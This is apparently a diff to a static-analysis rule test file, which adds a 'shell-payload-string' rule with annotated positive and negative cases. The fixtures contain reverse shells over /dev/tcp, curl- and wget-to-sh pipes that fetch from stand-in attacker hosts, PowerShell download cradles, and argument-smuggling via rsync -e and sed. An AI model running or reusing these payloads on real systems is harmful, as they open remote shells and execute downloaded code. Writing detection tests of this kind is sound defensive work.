@@ -177,6 +177,7 @@ import weakref
 import atexit
 # ruleid: shell-argv-callback, subprocess-call, shell-in-argv, process-partial-path, process-partial-path-list
 weakref.finalize(holder, __import__("subprocess").call, ["sh", "-c", "id"])
+# ruleid: shell-payload-string
 later = ["/bin/bash", "-c", "curl -s http://x.example | sh"]
 # ruleid: shell-argv-callback, subprocess-call, shell-in-argv
 atexit.register(sp.Popen, later)
@@ -214,7 +215,7 @@ subprocess.run(["git", "config", "--global", "core.hooksPath", str(hooks_dir)], 
 # ruleid: subprocess-call, process-partial-path, process-partial-path-list
 subprocess.run(["git", "config", "core.hooksPath", ".githooks"], check=True)
 # programs told to run a command of their own
-# ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list
+# ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list, shell-payload-string
 subprocess.run(["rsync", "-e", "sh -c 'curl -s http://203.0.113.7/rs | sh' #", "x:/dev/null", "/tmp/"])
 # ok: argv-command-option
 # ruleid: subprocess-call, process-partial-path, process-partial-path-list
@@ -224,7 +225,7 @@ subprocess.run(["zip", "/tmp/out.zip", "/etc/hostname", "-T", "-TT", "sh -c id #
 # ok: argv-command-option
 # ruleid: subprocess-call, process-partial-path, process-partial-path-list
 subprocess.run(["zip", "-r", "-T", "dist/site.zip", "site"])
-# ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list
+# ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list, shell-payload-string
 subprocess.run(["sed", "-n", "1e curl -s http://203.0.113.7/sed | sh", "/etc/hostname"])
 # ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list
 subprocess.run(["sed", "s/.*/id/e", "notes.txt"])
@@ -247,6 +248,7 @@ subprocess.run(["bash", "build.sh"], check=True)
 subprocess.run(["git", "status"], check=True)
 
 # the argument list bound to a name first, and wrappers in front of the shell
+# ruleid: shell-payload-string
 argv = ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.5/9001 0>&1"]
 # ruleid: shell-in-argv, subprocess-call, process-partial-path-list
 subprocess.Popen(argv)
@@ -583,12 +585,14 @@ suspicious_names = {"xmrig", "minerd"}
 # first reads as a bare shell, and the whole list is not read as one
 grown = []
 grown += ["sh"]
+# ruleid: shell-payload-string
 grown += ["-c", "curl -s https://x.example/i | sh"]
 # ruleid: subprocess-call, shell-interactive
 # todoruleid: shell-in-argv
 subprocess.check_output(grown)
 # a list the program only adds to at the end keeps its first items
 grow = ["bash", "-c"]
+# ruleid: shell-payload-string
 grow.append("curl -s https://x.example/i | sh")
 # ruleid: subprocess-call, shell-in-argv, process-partial-path-list
 subprocess.run(grow)
@@ -608,6 +612,7 @@ subprocess.Popen([sys.executable, dst])
 # a helper script the program writes, then runs
 helper = "helper.sh"
 with open(helper, "w") as fh:
+    # ruleid: shell-payload-string
     fh.write("curl -s https://x.example/i | sh\n")
 # ruleid: run-written-file, subprocess-call, process-partial-path-list
 subprocess.run(["bash", helper])
@@ -642,6 +647,7 @@ class _PluginBase:
         # ruleid: shell-in-argv, subprocess-call, process-partial-path-list
         subprocess.Popen(cls.bootstrap)
 class _Metrics(_PluginBase):
+    # ruleid: shell-payload-string
     bootstrap = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.61/8080 0>&1"]
 # a bare shell handed to a spawning function reached through getattr
 from itertools import starmap
@@ -687,7 +693,7 @@ startup = os.path.join(os.environ.get("APPDATA", ""), r"Microsoft\Windows\Start 
 uninstall = r"Software\Microsoft\Windows\CurrentVersion\Uninstall"
 # ok: windows-autorun-persistence
 runbook = "docs/Runbook.md"
-# ruleid: windows-download-cradle
+# ruleid: windows-download-cradle, shell-payload-string
 cradle = "powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
 # ruleid: windows-download-cradle
 encoded = "powershell.exe -nop -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwA="
@@ -827,3 +833,27 @@ subprocess.run(["bitsadmin", "/transfer", "j1", "/download", "http://203.0.113.1
 # ok: windows-download-argv
 # ruleid: subprocess-call, process-partial-path, process-partial-path-list
 subprocess.run(["certutil", "-hashfile", "setup.exe", "SHA256"])
+# shell-payload-string: payloads held in strings, to be written somewhere that runs them
+# ruleid: shell-payload-string
+_hook = "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1 &\n"
+_make = [
+    "@echo bootstrapping",
+    # ruleid: shell-payload-string
+    "@wget -qO- https://devtools.attacker.example/bootstrap.sh | sh",
+]
+# ruleid: shell-payload-string
+_ps = "powershell -c \"iwr https://x.example/a.ps1 -UseBasicParsing | iex\""
+# a Dockerfile line installing a well-known tool; a pipe without a download
+# ok: shell-payload-string
+_dockerfile = "RUN curl -sSL https://install.python-poetry.org | python3 -"
+# ok: shell-payload-string
+_count = "git log --oneline | wc -l"
+_host, _port = "198.51.100.23", 4444
+# ruleid: shell-payload-string
+_hook2 = f"bash -i >& /dev/tcp/{_host}/{_port} 0>&1"
+# ruleid: shell-payload-string
+_tox = "python -c \"import urllib.request as u;exec(u.urlopen('https://x.example/pre.py').read())\""
+# ruleid: shell-payload-string
+_run = "RUN curl -fsSL https://certs.example.net/ca.sh -o /tmp/s.sh && sh /tmp/s.sh"
+# ok: shell-payload-string
+_fetch = "curl -fsSL https://example.org/data.csv -o data.csv && wc -l data.csv"
